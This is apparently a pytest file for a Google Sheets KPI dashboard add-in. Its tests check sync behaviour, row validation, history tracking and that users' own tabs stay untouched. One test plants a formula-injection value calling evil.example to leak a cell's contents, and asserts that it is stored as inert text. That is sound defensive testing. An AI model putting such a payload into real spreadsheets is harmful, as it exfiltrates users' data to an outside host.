"""A sheet that keeps itself: what a run reads and writes, and that it leaves the user's tabs alone."""

import datetime as dt

from addin.demo import Formula
from addin.sync import connections
from addin.sync.google.batch import NUMBERS
from kpi_core.text import Lang
from kpi_core.workspace import Store
from tests.addin.sync.conftest import LEADS, SPEND, TODAY, Kept

CPL = "Coût par lead (CPL)"


def test_a_sheet_is_written_in_four_calls_looked_at_in_three_and_left_in_one(kept):
    """
    Changed: 4 calls; the same data: 3; unchanged: 1.
    """
    states = [(o.state, o.calls) for o in (kept.run() for _ in range(4))]
    kept.spend.set(1, 3, 2000.0)
    states += [(o.state, o.calls) for o in (kept.run() for _ in range(3))]

    assert [
        ("written", 4),
        ("same", 3),
        ("unchanged", 1),
        ("unchanged", 1),
        ("written", 4),
        ("same", 3),
        ("unchanged", 1),
    ] == states


def test_the_sheet_says_what_the_core_says(kept):
    """
    The number of the dashboard is the one that a query gives.
    """
    kept.run()

    assert kept.asked("cpl") is not None
    assert kept.asked("cpl") == kept.figure(CPL)


def test_every_row_is_accounted_for(kept):
    """
    Valid, rejected with its reason on the problems tab, or blank: nothing is dropped.
    """
    kept.spend.insert("ROWS", 3)
    outcome = kept.run()
    problems = kept.sheet.tab("Problèmes KPI").values()

    assert {
        "read": 142,
        "valid": 140,
        "quarantined": 1,
        "blank": 1,
    }.items() <= outcome.details.items()
    assert ["Dépenses", 23, "Date", "n.c."] == problems[1][:4]
    assert "n’est pas une date" in problems[1][4]


def test_a_problem_that_is_mended_leaves_the_problems_tab(kept):
    """
    What was typed wrong and put right counts, and is listed no more.
    """
    kept.run()
    kept.spend.set(21, 0, dt.date(2025, 10, 20))
    kept.run()

    assert 21 == kept.rows()
    assert "Rien" in kept.sheet.tab("Problèmes KPI").values()[1][0]


def test_nothing_changes_in_what_people_typed(kept):
    """
    Their tabs are read and never written in, whatever is done to ours.
    """
    before = {t.title: t.values() for t in kept.sheet.tabs()}
    kept.run()
    kept.board().set(5, 1, 999)
    kept.run()
    after = {t.title: t.values() for t in kept.sheet.tabs()}

    assert before == {title: after[title] for title in before}
    assert 6 - 1 == len(after)


def test_a_changed_dashboard_is_put_right(kept):
    """
    What somebody typed over a figure is replaced by the figure.
    """
    kept.run()
    right = kept.board().values()
    kept.board().set(6, 1, 999)
    outcome = kept.run()

    assert "written" == outcome.state
    assert right[4:] == kept.board().values()[4:]


def test_rows_put_into_the_dashboard_leave_no_half_of_it(kept):
    """
    A row put in between pushes nothing into being said twice.
    """
    kept.run()
    right = kept.board().values()
    kept.board().insert("ROWS", 5, 2)
    kept.settled()

    assert right[3:] == kept.board().values()[3:]


def test_a_column_put_into_the_dashboard_leaves_no_second_one(kept):
    """
    A column put in between pushes one of ours out: it goes, and nobody's own.
    """
    kept.run()
    right = kept.board().values()
    kept.board().insert("COLUMNS", 2)
    kept.settled()

    assert right[4:] == kept.board().values()[4:]


def test_peoples_own_columns_beside_the_dashboard_stay(kept):
    """
    A column of remarks beside ours is theirs.
    """
    kept.run()
    kept.board().set(4, 23, "à discuter lundi")
    kept.spend.set(1, 3, 2000.0)
    kept.settled()

    assert "à discuter lundi" == kept.board().values()[4][23]


def test_text_is_never_a_formula(kept):
    """
    What looks like a formula is a text wherever it is written; ours hold only our own cells.
    """
    evil = '=IMAGE("https://evil.example/?q="&A1)'
    kept.spend.set(21, 0, evil)
    kept.spend.set(21, 1, "=1+1")
    kept.run()
    problems = kept.sheet.tab("Problèmes KPI")
    formulas = {f for t in kept.sheet.tabs() for f in t.formulas().values()}

    assert evil == problems.values()[1][3]
    assert formulas
    assert all(f.startswith("=SPARKLINE(") for f in formulas)


def test_a_formula_of_the_user_counts_by_its_value(kept):
    """
    An amount that a formula computes is read as the number that it shows.
    """
    kept.spend.set(1, 3, Formula("=SUM(D3:D4)", 2500.0))
    kept.run()

    assert 2500 == max(
        float(a) for (a,) in kept.store.cursor().execute("SELECT amount FROM spend").fetchall()
    )


def test_the_sheets_language_is_that_of_its_dashboard(english):
    """
    An English sheet gets English tabs.
    """
    english.run()

    assert {"KPI dashboard", "KPI problems", "KPI history"} < set(english.sheet.titles())


def test_another_day_is_another_dashboard(kept):
    """
    What depends on the day is looked at again when the day changes, though nobody typed anything.
    """
    kept.settled()
    kept.core._today = TODAY + dt.timedelta(days=1)

    assert 3 <= kept.run().calls
    assert 1 == [kept.run().calls for _ in range(2)][-1]


def test_data_from_elsewhere_reach_the_dashboard(kept):
    """
    An import, or a setting, is seen at the next run of a sheet that nobody touched.
    """
    kept.settled()
    kept.store.change_settings({"focus": ["lead_volume"]}, "test")
    outcome = kept.run()

    assert "written" == outcome.state
    assert not [row for row in kept.board().values() if row and row[0] == CPL]


def test_the_history_grows_by_what_changed(kept):
    """
    One row a KPI and run that changed its value, below the others, which stay as they were.
    """
    kept.run()
    tab = kept.sheet.tab("Historique KPI")
    before = tab.values()
    kept.settled()
    same = tab.values()
    kept.spend.set(1, 3, 2000.0)
    kept.settled()
    after = tab.values()

    assert before == same
    assert before == after[: len(before)]
    assert len(after) > len(before)
    assert [*range(1, len(after))] == [row[0] for row in after[1:]]


def test_another_workspace_goes_on_below_what_stands_in_the_history(kept, tmp_path):
    """
    A sheet that another workspace kept before has rows of it: ours come after them, none is lost.
    """
    kept.settled()
    before = kept.sheet.tab("Historique KPI").values()
    with Store(tmp_path / "another", create=True) as store:
        again = Kept(store)
        again.google, again.sheet = kept.google, kept.sheet
        again.number = connections.connect(
            store, "google", kept.sheet.id, title="Suivi", lang=Lang.FR, credential=None, actor="t"
        ).id
        again.settled()
    after = kept.sheet.tab("Historique KPI").values()

    assert before == after[: len(before)]
    assert 2 * len(before) - 1 == len(after)
    assert [row[0] for row in after[1:]] == list(range(1, len(after)))


def test_a_number_typed_into_the_history_stops_nothing(kept):
    """
    Whatever somebody types there, later values are still added.
    """
    kept.settled()
    history = kept.sheet.tab("Historique KPI")
    history.set(len(history.values()), 0, 1e300)
    before = len(history.values())
    kept.spend.set(1, 3, 2000.0)
    kept.settled()

    assert before < len(kept.sheet.tab("Historique KPI").values())


def test_rows_that_another_source_has_too_are_pointed_at(kept):
    """
    The same spend to the cent, from an export and from the sheet: the problems tab says so.
    """
    kept.settled()
    with kept.store.transaction("t", "import", "ads.csv", {}) as cursor:
        cursor.execute(
            "INSERT INTO imports BY NAME SELECT * REPLACE (99 AS id, 'ads.csv' AS file, 'ads.export' AS system)"
            " FROM imports LIMIT 1"
        )
        cursor.execute(
            "INSERT INTO spend BY NAME SELECT * REPLACE ('ads.export' AS system, 99 AS import_id)"
            " FROM spend LIMIT 3"
        )
    kept.settled()

    told = [row[4] for row in kept.sheet.tab("Problèmes KPI").values()[1:]]
    assert any("3 lignes" in words and "ads.csv" in words for words in told), told


def test_our_tabs_bear_our_own_numbers(kept):
    """
    So that a copy of the spreadsheet, or a renamed tab, is still known as ours.
    """
    kept.run()

    made = {number for key, number in NUMBERS.items() if key != "tables"}
    assert made < {t.id for t in kept.sheet.tabs()}
    assert "b2bkpi.run" in kept.sheet.metadata


def test_forgotten_people_do_not_come_back_with_the_sheet(kept):
    """
    Who asked to be forgotten stays so, though the team still has them in a tab.
    """
    from kpi_core.workspace import safekeeping

    kept.run()
    safekeeping.forget(kept.store, LEADS[1][0], "test")
    kept.leads.set(2, 1, dt.date(2025, 1, 25))
    kept.run()
    found = kept.store.cursor().execute("SELECT count(*) FROM leads WHERE email = ?", [LEADS[1][0]])

    assert [(0,)] == found.fetchall()


def test_a_tab_of_twenty_thousand_rows(store):
    """
    A whole tab is one table of one answer, however long.
    """
    kept = Kept(store)
    rows = [[day_of(n), "LinkedIn", f"C{n % 40}", n % 97 + 0.25] for n in range(20_000)]
    kept.spend.clear()
    kept.spend.write("A1", [SPEND[0][:4], *rows])
    outcome = kept.run()
    total = store.cursor().execute("SELECT count(*), sum(amount) FROM spend").fetchall()[0]

    assert ("written", 4) == (outcome.state, outcome.calls)
    assert 20_000 == total[0]
    assert sum(n % 97 + 0.25 for n in range(20_000)) == float(total[1])


def day_of(number):
    return dt.date(2025, 1, 1) + dt.timedelta(days=number % 300)
